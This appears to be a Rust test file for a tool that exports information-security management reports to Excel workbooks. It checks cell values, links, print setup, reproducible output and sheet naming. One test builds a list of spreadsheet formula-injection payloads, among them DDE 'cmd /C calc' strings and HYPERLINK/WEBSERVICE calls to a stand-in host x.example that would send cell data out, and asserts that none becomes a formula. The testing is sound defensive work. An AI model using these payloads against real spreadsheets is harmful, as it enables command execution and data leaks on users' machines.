//! The workbook: it holds what the reports say, nothing in it is evaluated, nothing is cut, and its bytes depend on the book and the day only.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read as _};
use std::path::Path;
use std::sync::LazyLock;

use calamine::{Data, Range, Reader as _, Xlsx};
use ismsbook::audience::Audience;
use ismsbook::book::{Book, Request};
use ismsbook::files::Files;
use ismsbook::pack::workbook::workbook;
use ismsbook::report::{self, Cell, Query, Table, print};
use ismsbook::text::Lang;
use serde_json::{Value, json};

/// The sample book of this repository.
static SAMPLE: LazyLock<Book> = LazyLock::new(|| Book::open(Path::new(env!("CARGO_MANIFEST_DIR")), &Request::default()));

fn made(book: &Book, lang: Lang) -> Vec<u8> {
    workbook(&book.visible(Audience::Internal), lang).unwrap_or_else(|said| panic!("{said:#?}"))
}

/// A book of a few files.
fn compiled(files: &[(&str, String)]) -> Book {
    let config = ("book.toml".to_owned(), "[book]\nid = \"b\"\ntitle = \"b\"\n".to_owned());
    let files = files.iter().map(|(path, text)| ((*path).to_owned(), text.clone()));
    Book::compile(Files::from_texts(files.chain([config])), Vec::new(), "b", &Request::default())
}

/// The sheets in their order.
fn opened(bytes: &[u8]) -> Vec<(String, Range<Data>)> {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).expect("the workbook can be opened");
    book.worksheets()
}

/// The files inside.
fn parts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook is a zip archive");
    let mut parts = BTreeMap::new();
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("its entries can be read");
        let mut text = String::new();
        let name = part.name().expect("its entries have names").into_owned();
        part.read_to_string(&mut text).expect("its entries are XML");
        parts.insert(name, text);
    }
    parts
}

/// Every report and register, and the Statement of Applicability of every service.
fn every_table(book: &Book) -> Vec<Table> {
    let table = |name: &str, query: &Query| book.report(name, query).expect("the report has a name that is known");
    let mut tables = Vec::new();
    for name in report::names() {
        tables.push(table(name, &Query::default()));
        if name == "soa" {
            let services = book.isms.services.iter().map(|service| service.id.0.clone());
            tables.extend(services.map(|id| table(name, &Query::service(&id))));
        }
    }
    tables
}

/// The row of the heads.
const HEAD: usize = 3;

/// What a spreadsheet program has to show for a value of the JSON; words are shown by their names.
fn shown(value: &Value, cell: &Cell, lang: Lang) -> Value {
    let joined = |with: &str| {
        json!(
            value
                .as_array()
                .map(|all| all.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(with))
        )
    };
    match cell {
        Cell::Word(word, label) => {
            assert_eq!(*value, json!(word));
            json!(label.get(lang))
        }
        Cell::Words(words) => {
            assert_eq!(*value, json!(words.iter().map(|(word, _)| word).collect::<Vec<_>>()));
            json!(words.iter().map(|(_, label)| label.get(lang)).collect::<Vec<_>>().join(", "))
        }
        Cell::Counts(counts) => {
            let each = counts.iter().map(|(key, label, count)| {
                assert_eq!(value[key], json!(count));
                format!("{} {count}", label.get(lang))
            });
            json!(each.collect::<Vec<_>>().join(", "))
        }
        Cell::Texts(_) => joined(" / "),
        Cell::Ids(_) | Cell::Rules(_) => joined(", "),
        Cell::Level { .. } => value["value"].clone(),
        Cell::Empty => json!(""),
        _ => value.clone(),
    }
}

/// What a cell of a sheet holds, as JSON; with days as in the JSON of reports.
fn held(cell: Option<&Data>) -> Value {
    match cell {
        None | Some(Data::Empty) => json!(""),
        Some(Data::String(text)) => json!(text),
        Some(Data::Float(number)) => json!(number),
        Some(Data::Int(number)) => json!(number),
        Some(Data::DateTime(day)) => {
            let (year, month, day, ..) = day.to_ymd_hms_milli();
            json!(format!("{year:04}-{month:02}-{day:02}"))
        }
        other => panic!("{other:?} stands in the workbook"),
    }
}

fn equal(one: &Value, other: &Value) -> bool {
    match (one.as_f64(), other.as_f64()) {
        (Some(one), Some(other)) => (one - other).abs() < 1e-9,
        _ => one == other,
    }
}

#[test]
fn every_cell_is_that_of_the_report() {
    for lang in Lang::ALL {
        let sheets = opened(&made(&SAMPLE, lang));
        let tables: Vec<_> = every_table(&SAMPLE).into_iter().filter(|table| !table.rows.is_empty()).collect();
        assert_eq!(
            sheets.len(),
            tables.len() + 2,
            "a sheet for each table, the contents and the definitions"
        );
        let mut cells = 0;
        let mut wrong = Vec::new();
        for (table, (name, sheet)) in tables.iter().zip(&sheets[1..]) {
            let at = |row: usize, column: usize| {
                sheet.get_value((u32::try_from(row).expect("few rows"), u32::try_from(column).expect("few columns")))
            };
            let json = print::json(table, lang);
            assert_eq!(held(at(0, 0)), json["title"], "{name}");
            for (column, spec) in table.columns.iter().enumerate() {
                assert_eq!(held(at(HEAD, column)), json["columns"][column]["label"], "{name}");
                for (number, row) in table.rows.iter().enumerate() {
                    let wanted = shown(&json["rows"][number][spec.key.as_ref()], &row.cells[column], lang);
                    let found = held(at(HEAD + 1 + number, column));
                    if !equal(&wanted, &found) {
                        wrong.push(format!("{name} {} {}: {found} instead of {wanted}", row.id, spec.key));
                    }
                    cells += 1;
                }
            }
            let after = HEAD + 1 + table.rows.len();
            assert_eq!(held(at(after, 0)), json!(""), "{name} has no more rows than its table");
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
        assert!(cells > 5_000, "{cells}");
    }
}

#[test]
fn statements_of_applicability_come_for_the_whole_and_then_for_each_service() {
    let titles: Vec<_> = opened(&made(&SAMPLE, Lang::Ja))
        .iter()
        .map(|(name, _)| name.clone())
        .filter(|name| name.starts_with("適用宣言書 "))
        .collect();
    let services = SAMPLE.isms.services.iter().map(|service| service.name.text().ja.to_string());
    let wanted: Vec<_> = std::iter::once("ISMS全体".to_owned())
        .chain(services)
        .map(|name| format!("適用宣言書 {name}"))
        .collect();
    assert_eq!(titles, wanted);
}

/// The values of an attribute or element between `before` and `after`.
fn between<'a>(text: &'a str, before: &'a str, after: &'a str) -> impl Iterator<Item = &'a str> {
    text.split(before).skip(1).filter_map(move |rest| rest.split(after).next())
}

#[test]
fn links_lead_to_rows_of_sheets_that_are_there() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let sheets: BTreeMap<_, _> = opened(&bytes).into_iter().collect();
    let mut links = 0;
    for (part, text) in parts(&bytes) {
        if !part.starts_with("xl/worksheets/sheet") {
            continue;
        }
        for location in between(&text, "location=\"", "\"") {
            let (sheet, cell) = location.rsplit_once('!').expect("a link names a cell");
            let sheet = sheets.get(sheet.trim_matches('\'')).unwrap_or_else(|| panic!("{part}: {location}"));
            let row: u32 = cell.trim_start_matches('A').parse().expect("links lead to the first column");
            assert!(row >= 1 && row - 1 <= sheet.end().expect("sheets are not empty").0, "{location}");
            links += 1;
        }
        assert!(!text.contains("<hyperlink r:id"), "{part}: a link leads out of the workbook");
    }
    assert!(links > 1_000, "{links}");
}

/// The cell of an id leads to the row that this id begins in its register.
#[test]
fn an_id_leads_to_its_row() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let sheets = opened(&bytes);
    let parts = parts(&bytes);
    let by_name: BTreeMap<_, _> = sheets.iter().map(|(name, sheet)| (name.as_str(), sheet)).collect();
    let (number, (_, plan)) = sheets
        .iter()
        .enumerate()
        .find(|(_, (name, _))| name == "リスク対応計画")
        .expect("the sample has a treatment plan");
    let text = &parts[&format!("xl/worksheets/sheet{}.xml", number + 1)];
    let mut seen = 0;
    for link in between(text, "<hyperlink ", "/>") {
        let cell = between(link, "ref=\"", "\"").next().expect("a link stands in a cell");
        let location = between(link, "location=\"", "\"").next().expect("a link leads somewhere");
        let Some(row) = cell
            .strip_prefix('A')
            .and_then(|row| row.parse::<u32>().ok())
            .filter(|row| *row > 4)
        else {
            continue;
        };
        let (sheet, target) = location.rsplit_once("!A").expect("a link leads to the first column");
        let target: u32 = target.parse().expect("and to a row");
        let id = held(plan.get_value((row - 1, 0)));
        assert_eq!(held(by_name[sheet.trim_matches('\'')].get_value((target - 1, 0))), id, "{link}");
        assert_eq!(sheet.trim_matches('\''), "リスク登録簿");
        seen += 1;
    }
    assert!(seen > 0);
}

#[test]
fn sheets_are_set_up_for_screen_and_paper() {
    let bytes = made(&SAMPLE, Lang::Ja);
    let parts = parts(&bytes);
    let sheets: Vec<_> = parts.iter().filter(|(name, _)| name.starts_with("xl/worksheets/sheet")).collect();
    for (name, text) in &sheets {
        for wanted in [
            "state=\"frozen\"",
            "<autoFilter ",
            "orientation=\"landscape\"",
            "fitToHeight=\"0\"",
            "&amp;P / &amp;N",
            "<cols>",
        ] {
            assert!(text.contains(wanted), "{name} lacks {wanted}");
        }
    }
    let titles = between(&parts["xl/workbook.xml"], "_xlnm.Print_Titles", "</definedName>").count();
    assert_eq!(titles, sheets.len(), "every sheet repeats its head");
    let styles = &parts["xl/styles.xml"];
    for level in &SAMPLE.config.risk.levels {
        let shown = format!("0&quot; {}&quot;", level.name.get(Lang::Ja));
        assert!(styles.contains(&shown), "values are shown with the name of their level: {shown}");
    }
    assert!(styles.contains("yyyy-mm-dd") && styles.contains("<name val=\"游ゴシック\"/>"));
    let lists: String = sheets
        .iter()
        .flat_map(|(_, text)| between(text, "<formula1>", "</formula1>"))
        .collect();
    for wanted in ["採用,除外,立場外,未判定", "実施,一部実施,計画,代替", "起案中,施行中,廃止"] {
        assert!(lists.contains(wanted), "{wanted} in {lists}");
    }
}

#[test]
fn the_same_book_gives_the_same_bytes() {
    let first = made(&SAMPLE, Lang::Ja);
    let again = Book::open(Path::new(env!("CARGO_MANIFEST_DIR")), &Request::default());
    assert!(first == made(&again, Lang::Ja));
    let core = &parts(&first)["docProps/core.xml"];
    let day = SAMPLE.today.0.to_string();
    let times: BTreeSet<_> = between(core, "W3CDTF\">", "<").collect();
    assert_eq!(times, BTreeSet::from([format!("{day}T00:00:00Z").as_str()]));
    let mut archive = zip::ZipArchive::new(Cursor::new(&first)).expect("a workbook is a zip archive");
    for at in 0..archive.len() {
        let time = archive.by_index(at).expect("its entries can be read").last_modified();
        assert_eq!(time.map(|time| time.year()), Some(1980), "entries have no time of their own");
    }
}

/// Texts that a spreadsheet might take for a formula.
fn payloads() -> Vec<String> {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u{3000}=",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "\"=",
        "=+",
        "-+",
        "@=",
        "{=",
        ";=",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://x.example/?q=\"&A1,\"ok\")",
        "WEBSERVICE(\"http://x.example/\")",
        "IMPORTXML(\"http://x.example/\",\"//a\")",
        "SUM(A1:A9)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "INDIRECT(\"A1\")",
        "2+5+cmd|'/C notepad'!'A1'",
        "A1",
        "5",
        "\nline",
        "_x000D_=1",
        "</t></is><f>1</f>",
        "<f>1+1</f>",
        "]]>",
        "葛\u{e0100}😀👨\u{200d}👩\u{200d}👧",
    ];
    starts
        .iter()
        .flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")))
        .collect()
}

#[test]
fn no_text_becomes_a_formula() {
    let payloads = payloads();
    assert!(payloads.len() >= 300, "{}", payloads.len());
    let records: Vec<_> = payloads
        .iter()
        .enumerate()
        .map(|(at, text)| format!("  - {{ id: C-{at:03}, title: {text}, kind: internal, relevant: true, effect: {text}, topic: {text}, reviewed: 2026-01-05 }}\n", text = json!(text)))
        .collect();
    let service = format!(
        "services:\n  - {{ id: s, name: {}, model: SaaS, kind: cloud-service, parties: [csp], infrastructure: own }}\n",
        json!("=1+1'![x]:*?/\\")
    );
    let book = compiled(&[
        ("content/a.yaml", format!("context:\n{}", records.concat())),
        ("content/b.yaml", service),
    ]);
    assert_eq!(
        (book.isms.context.len(), book.isms.services.len()),
        (payloads.len(), 1),
        "{:#?}",
        book.diagnostics
    );
    let bytes = made(&book, Lang::Ja);
    for (name, text) in parts(&bytes) {
        assert!(!text.contains("<f>") && !text.contains("<f "), "{name} holds a formula");
    }
    let mut reader = Xlsx::new(Cursor::new(bytes.clone())).expect("the workbook can be opened");
    for name in reader.sheet_names() {
        let formulas = reader.worksheet_formula(&name).expect("the sheet can be read");
        assert!(formulas.used_cells().next().is_none(), "{name}");
    }
    let sheets = opened(&bytes);
    let (_, sheet) = sheets
        .iter()
        .find(|(name, _)| name == "外部・内部の課題")
        .expect("the records have a sheet");
    let strings: BTreeSet<_> = sheet.cells().filter_map(|(.., cell)| cell.as_string_kept()).collect();
    let lost: Vec<_> = payloads.iter().filter(|text| !strings.contains(text.as_str())).collect();
    assert!(lost.is_empty(), "each comes back as it was written: {lost:#?}");
}

/// The text of a cell, and of text cells only.
trait Kept {
    fn as_string_kept(&self) -> Option<&str>;
}

impl Kept for Data {
    fn as_string_kept(&self) -> Option<&str> {
        match self {
            Data::String(text) => Some(text),
            _ => None,
        }
    }
}

#[test]
fn text_that_fits_no_cell_is_said_and_not_cut() {
    let of = |length: usize| {
        let text = "あ".repeat(length);
        let record =
            format!("context:\n  - {{ id: C-1, title: t, kind: internal, relevant: true, effect: {text}, reviewed: 2026-01-05 }}\n");
        compiled(&[("content/a.yaml", record)])
    };
    let fits = of(32_767);
    let sheets = opened(&made(&fits, Lang::Ja));
    let longest = sheets
        .iter()
        .flat_map(|(_, sheet)| sheet.cells().map(|(.., cell)| held(Some(cell))))
        .filter_map(|value| value.as_str().map(|text| text.chars().count()))
        .max();
    assert_eq!(longest, Some(32_767));
    let book = of(32_768);
    let said = workbook(&book.visible(Audience::Internal), Lang::Ja).expect_err("the text does not fit");
    let [one] = &said[..] else { panic!("{said:#?}") };
    assert_eq!(one.code, "cell-too-long");
    assert!(one.span.is_some(), "it says where the record stands");
    for wanted in ["C-1", "32768", "課題"] {
        assert!(one.message.ja.contains(wanted), "{}", one.message.ja);
    }
}

/// Names of services that Excel would not take, or takes for one.
#[test]
fn sheets_have_names_that_excel_takes() {
    let names = [
        "a/b:c*d?[e]\\f",
        "A B C D E F",
        "'quoted'",
        "長い名前のクラウドサービスで三十一文字を超えるものその一",
        "長い名前のクラウドサービスで三十一文字を超えるものその二",
        "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀",
    ];
    let services: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(at, name)| {
            format!(
                "  - {{ id: s{at}, name: {}, model: SaaS, kind: cloud-service, parties: [csp], infrastructure: own }}\n",
                json!(name)
            )
        })
        .collect();
    let book = compiled(&[("content/a.yaml", format!("services:\n{}", services.concat()))]);
    assert_eq!(book.isms.services.len(), names.len(), "{:#?}", book.diagnostics);
    for lang in Lang::ALL {
        let sheets = opened(&made(&book, lang));
        let statements = sheets
            .iter()
            .filter(|(name, _)| name.starts_with("適用宣言書 ") || name.starts_with("SoA "));
        let names_of_sheets: Vec<_> = sheets.iter().map(|(name, _)| name).collect();
        assert!(
            statements.count() >= names.len(),
            "each service has its statement: {names_of_sheets:?}"
        );
        let lower: BTreeSet<_> = sheets.iter().map(|(name, _)| name.to_lowercase()).collect();
        assert_eq!(lower.len(), sheets.len());
        assert!(sheets.len() > names.len());
        for (name, _) in &sheets {
            assert!(!name.is_empty() && name.encode_utf16().count() <= 31, "{name}");
            assert!(!name.contains(['[', ']', ':', '*', '?', '/', '\\', '\'']), "{name}");
        }
    }
}
